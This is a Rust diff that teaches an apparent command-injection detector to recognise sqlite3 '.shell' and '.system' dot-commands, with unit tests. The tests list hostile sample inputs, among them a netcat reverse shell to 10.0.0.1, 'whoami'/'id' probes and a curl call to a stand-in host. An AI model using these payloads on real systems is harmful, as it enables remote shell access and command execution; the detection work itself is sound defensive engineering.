@@ -755,6 +755,11 @@ fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Opt
         (start, j, "", shell)
     } else {
         let (start, j) = word_span(b, i);
+        if sep == Sep::Strong {
+            if let Some(r) = sqlite_dot_command(s, start) {
+                return Some(r);
+            }
+        }
         let (dir, base) = split_word(s.get(start..j)?)?;
         (
             start,
@@ -925,6 +930,24 @@ fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Opt
             }
         }
     }
+}
+
+/// sqlite3's `.shell` and `.system`, which its shell also takes with blanks after the dot
+/// (`. shell id`) and abbreviated (`.sh id`, `.sys id`), followed by a command.
+fn sqlite_dot_command(s: &str, start: usize) -> Option<&'static str> {
+    let rest = s.get(start..)?.strip_prefix('.')?;
+    let after = rest.trim_start_matches([' ', '\t']);
+    let name_len = after.bytes().take(7).take_while(u8::is_ascii_alphabetic).count();
+    let name = &after[..name_len];
+    if name_len < 2 || !("shell".starts_with(name) || "system".starts_with(name)) {
+        return None;
+    }
+    if !after[name_len..].starts_with([' ', '\t']) {
+        return None;
+    }
+    let (ws, we) = word_span(s.as_bytes(), s.len() - after.len() + name_len);
+    let (_, base) = split_word(s.get(ws..we)?)?;
+    command_of(base).map(|_| "sqlite3 shell command")
 }
 
 /// Looks for an OS command in one decoded value. `header` holds values written by clients (User-Agent
@@ -2264,6 +2287,24 @@ mod tests {
                 "trap cat food",
                 "eval tips; eval results",
                 "Status: active; last login 2 days ago",
+            ],
+        );
+    }
+
+    #[test]
+    fn sqlite_dot_commands() {
+        shape_cases(
+            &[
+                "\";\\n. shell nc 10.0.0.1 6666 -e sh\\n",
+                "1;.sh whoami",
+                "x\n.sys id",
+                ";.shel curl http://x.example/",
+            ],
+            &[
+                "file types: .py; .sh files",
+                "scripts; .sh and .py",
+                "a;. shell game",
+                "end.\n. Shell out",
             ],
         );
     }
